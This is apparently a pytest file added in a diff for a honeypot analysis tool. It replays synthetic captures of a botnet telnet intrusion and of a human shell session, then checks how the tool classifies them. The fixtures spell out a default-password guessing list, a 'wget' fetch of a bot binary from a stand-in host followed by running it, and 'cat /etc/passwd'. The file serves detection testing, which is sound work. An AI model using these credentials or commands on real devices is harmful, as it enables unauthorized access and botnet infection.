@@ -1,0 +1,144 @@
+# SPDX-License-Identifier: Apache-2.0
+"""One intrusion from the first knock to the orders of a botnet, as `fishbowl replay` tells it: one incident, told of
+twice; scanners are sources."""
+import json
+import re
+
+import packets as p
+from fishbowl import run
+
+BOT, SERVER, IRC, SCANNER = '198.51.100.7', '203.0.113.80', '203.0.113.66', '198.51.100.9'
+HONEYPOT = '192.0.2.10'
+START = 10**18
+SECOND = 10**9
+PASSWORDS = (b'root', b'admin', b'12345', b'default', b'xc3511')
+PROGRAM = b'\x7fELF' + bytes(range(256)) * 3
+
+
+class Wire:
+    def __init__(self):
+        self.packets = []
+
+    def add(self, second, packet):
+        self.packets.append((START + int(second * SECOND), packet))
+
+    def talk(self, second, client, server, sport, dport, steps, pause=0.01):
+        """A whole TCP connection of what its two sides say; a number among the steps is a pause in seconds."""
+        ends = [(client, server, sport, dport), (server, client, dport, sport)]
+        seq = [1000, 5000]
+
+        def say(side, flags, data=b'', size=None):
+            nonlocal second
+            self.add(second, p.tcp(*ends[side], flags, seq=seq[side], ack=seq[not side], data=data))
+            seq[side] += len(data) if size is None else size
+            second += pause
+
+        say(0, p.SYN, size=1)
+        say(1, p.SYN | p.ACK, size=1)
+        say(0, p.ACK)
+        for step in steps:
+            if isinstance(step, tuple):
+                say(step[0], p.PSH | p.ACK, step[1])
+                say(not step[0], p.ACK)
+            else:
+                second += step
+        say(0, p.FIN | p.ACK, size=1)
+        say(1, p.FIN | p.ACK, size=1)
+        say(0, p.ACK)
+
+    def replay(self, tmp_path):
+        self.packets.sort(key=lambda one: one[0])
+        capture = tmp_path / 'capture.pcap'
+        capture.write_bytes(p.pcap('raw', self.packets))
+        done = run('--home', '192.0.2.0/24', '-o', tmp_path / 'out', capture)
+        assert done.returncode == 0, done.stderr
+        return [json.loads(line) for line in (tmp_path / 'out' / 'eve.json').read_text().splitlines()]
+
+
+def telnet(commands, passwords=PASSWORDS):
+    """Guesses, the last one right, and then what is typed: (line, pause before it)."""
+    steps = [(1, b'\xff\xfd\x01\xff\xfb\x03'), (0, b'\xff\xfb\x01\xff\xfd\x03'), (1, b'\r\nbox login: ')]
+    for password in passwords:
+        steps += [(0, b'root\r\0'), (1, b'root\r\nPassword: '), (0, password + b'\r\0')]
+        steps += [(1, b'\r\n~ # ') if password == passwords[-1] else (1, b'\r\nLogin incorrect\r\nbox login: ')]
+    for line, pause in commands:
+        steps += [pause, (0, line + b'\r\0'), (1, line + b'\r\nok\r\n~ # ')]
+    return steps
+
+
+def http():
+    head = b'HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n' % len(PROGRAM)
+    return [(0, b'GET /bot.arm HTTP/1.0\r\nHost: dl.example\r\n\r\n'), (1, head + PROGRAM)]
+
+
+def irc():
+    steps = [(0, b'NICK bot17\r\nUSER b b b :b\r\n'), (1, b':s.example 001 bot17 :Hello\r\n'), (0, b'JOIN #owned\r\n'),
+             (1, b':bot17!b@h JOIN :#owned\r\n')]
+    for _ in range(8):
+        steps += [20, (0, b'PRIVMSG #owned :[SCAN]: exploited 192.0.2.99\r\n')]
+    return steps
+
+
+def intrusion(commands):
+    wire = Wire()
+    for n in range(8):
+        wire.add(n, p.tcp(SCANNER, f'192.0.2.{20 + n}', 50000, 23, p.SYN, seq=1))
+    wire.talk(60, BOT, HONEYPOT, 40000, 23, telnet(commands))
+    wire.talk(90, HONEYPOT, SERVER, 41000, 80, http())
+    wire.talk(120, HONEYPOT, IRC, 41001, 6667, irc())
+    return wire
+
+
+def of(records, kind):
+    return [r for r in records if r['event_type'] == kind]
+
+
+def test_bot(tmp_path):
+    records = intrusion([(b'enable', 0), (b'cd /tmp', 0), (b'wget http://dl.example/bot.arm', 0), (b'./bot.arm', 0)]
+                        ).replay(tmp_path)
+    told = of(records, 'incident')
+    stages = [r['incident']['stage'] for r in told]
+    assert stages[0] == 'opened' and stages[-1] == 'closed'
+    assert stages.count('opened') == stages.count('raised') == stages.count('closed') == 1
+    assert 2 <= stages.count('grew') <= 4  # once a minute
+    assert len({r['incident']['id'] for r in told}) == 1
+    assert told[0]['fishbowl']['title'] == f'{HONEYPOT}: {BOT} got in (login)'
+    last = told[-1]['incident']
+    assert (last['class'], last['actor'], last['severity']) == ('bot', 'automated', 'high')
+    assert last['remotes'] == [{'ip': BOT, 'why': 'got in'}]
+    assert (last['logins'], last['logins_good'], last['typed']) == (5, 1, 4)
+    texts = [s['text'] for s in last['story']]
+    for expected in (f"{BOT} logged in over telnet as 'root'", 'typed: ./bot.arm, new', f'began to speak to {SERVER}:80/TCP',
+                     'asked for GET http://dl.example/bot.arm', 'bot17 in #owned: [SCAN]: exploited 192.0.2.99'):
+        assert expected in texts
+    file, = (r for r in of(records, 'fileinfo'))
+    assert file['fishbowl']['new'] is True
+    assert any(file['fileinfo']['sha256'] in text and text.startswith('fetched') for text in texts)
+    assert [s['time'] for s in last['story']] == sorted(s['time'] for s in last['story'])
+    by_flow = {r['flow_id']: r for r in of(records, 'flow')}
+    assert all(s['flow_id'] in by_flow for s in last['story'])
+    assert all(1 <= s['packet'] for s in last['story'])
+    # The good one is a word of the telnet records; here it is not.
+    assert not any(re.search('xc3511|12345', json.dumps(r)) for r in told)
+
+
+def test_human(tmp_path):
+    commands = [(b'w', 2.3), (b'ls -la', 6.1), (b'cat /etc/passwd', 3.2), (b'uname -a', 11), (b'ps ax', 4), (b'exit', 7.5)]
+    wire = Wire()
+    wire.talk(0, BOT, HONEYPOT, 40000, 23, telnet(commands, PASSWORDS[-2:]))
+    last = of(wire.replay(tmp_path), 'incident')[-1]['incident']
+    assert (last['class'], last['actor'], last['severity']) == ('shell', 'human', 'medium')
+
+
+def test_scanner(tmp_path):
+    source, = of(intrusion([]).replay(tmp_path), 'source')
+    assert source['src_ip'] == SCANNER
+    assert source['source']['class'] == 'scan' and source['source']['actor'] == 'automated'
+    assert source['source']['flows'] == 8
+    assert source['source']['why'] == 'knocks where nobody answers; goes to several honeypots'
+
+
+def test_same_again(tmp_path):
+    """The same packets give the same records, numbers of incidents included."""
+    first = intrusion([(b'id', 1)]).replay(tmp_path)
+    assert intrusion([(b'id', 1)]).replay(tmp_path) == first
